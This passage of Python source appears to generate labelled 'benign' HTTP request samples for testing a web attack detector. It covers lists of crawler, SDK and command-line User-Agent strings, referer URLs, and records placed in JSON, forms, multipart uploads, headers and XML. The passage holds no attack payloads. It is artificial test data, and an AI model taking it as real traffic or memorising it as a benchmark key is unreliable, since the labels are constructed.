    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.23.20.0",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Datadog Agent/7.54.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "Python/3.11 aiohttp/3.9.5",
    "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Java/11.0.23",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.39.0",
    "insomnia/9.2.0",
    "curl/8.8.0",
    "Wget/1.21.4",
    "aws-sdk-java/2.25.60 Linux/5.15.0-1064-aws OpenJDK_64-Bit_Server_VM/17.0.11+9-LTS Java/17.0.11 vendor/Amazon.com_"
    "Inc. io/sync http/Apache cfg/retry-mode/legacy",
    "Boto3/1.34.131 md/Botocore#1.34.131 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.9 "
    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.131",
    "Stripe/v1 RubyBindings/11.7.0",
    "Dart/3.4 (dart:io)",
    "MyApp/3.2.1 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.3",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4522",
    "Faraday v2.9.2",
    "GuzzleHttp/7",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
]

REFERERS = [
    "https://www.google.com/",
    "https://www.google.com/search?q=acme+user+admin+login",
    "https://github.com/acme/infra/pull/412/files",
    "https://admin.example.com/admin/users/search?q=ann&page=2",
    "https://mail.google.com/mail/u/0/#inbox/FMfcgzGxSbhq",
    "https://t.co/AbC123xYz",
    "https://www.linkedin.com/feed/?trk=guest_homepage-basic_nav-header-logo",
    "https://stackoverflow.com/questions/tagged/java?tab=Newest",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, "tenth-chat")
    yield from links_and_prose(URLS, PROSE, "tenth-web", n)
    for i, f in enumerate(FILES):
        kind = i % 4
        if kind == 0:
            rec = _json("/api/users/42/documents", {"filename": f, "folder": "shared", "notify": True})
        elif kind == 1:
            rec = _get(_query("/api/users/42/documents", [("path", f), ("sort", "name")]))
        elif kind == 2:
            rec = _form("/admin/users/search", [("csrf_token", "t0k3n"), ("attachment", f)])
        else:
            rec = _multipart("/api/users/42/documents", [("title", None, "upload"), ("document", f, "content")])
        yield {**rec, "id": f"tenth-file-{i + 1:04d}", "category": "benign",
               "placement": ["json", "query", "form", "multipart-filename"][kind]}
    for i, t in enumerate(TEMPLATES):
        rec = _form("/admin/newsletters/7/edit", [("csrf_token", "t0k3n"), ("subject", "June update"),
                                                  ("body_html", t)])
        yield {**rec, "id": f"tenth-tpl-{i + 1:04d}", "category": "benign", "placement": "form"}
    for i, t in enumerate(TEMPLATES[:8]):
        rec = _json("/api/newsletters/7", {"subject": "Weekly digest", "template": t, "draft": True})
        yield {**rec, "id": f"tenth-tpljson-{i + 1:04d}", "category": "benign", "placement": "json"}
    for i, cfg in enumerate(CONFIGS):
        yield {**_json("/api/users/42/settings", cfg), "id": f"tenth-cfg-{i + 1:04d}", "category": "benign",
               "placement": "json"}
    for i, agent in enumerate(AGENTS):
        rec = {**_get(f"/api/users?page={i % 5 + 1}"), "headers": {"User-Agent": agent, "Accept": "*/*"}}
        yield {**rec, "id": f"tenth-ua-{i + 1:04d}", "category": "benign", "placement": "user-agent"}
    for i, ref in enumerate(REFERERS):
        rec = {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                        "Referer": ref}}
        yield {**rec, "id": f"tenth-ref-{i + 1:04d}", "category": "benign", "placement": "referer"}
    xml_bios = ["Sysadmin. I live in bash and PowerShell; ask me about cron and systemd.",
                "Java dev: Spring, Hibernate, the occasional NullPointerException.",
                "Docs in /srv/docs, templates use {{name}} placeholders.",
                "Ping me on Slack & I'll answer within the hour.",
                "C:\\Users\\ann\\notes is where my drafts live."]
    for i, bio in enumerate(xml_bios):
        yield {**_xml("/api/users", "bio", bio), "id": f"tenth-xml-{i + 1:04d}", "category": "benign",
               "placement": "xml"}
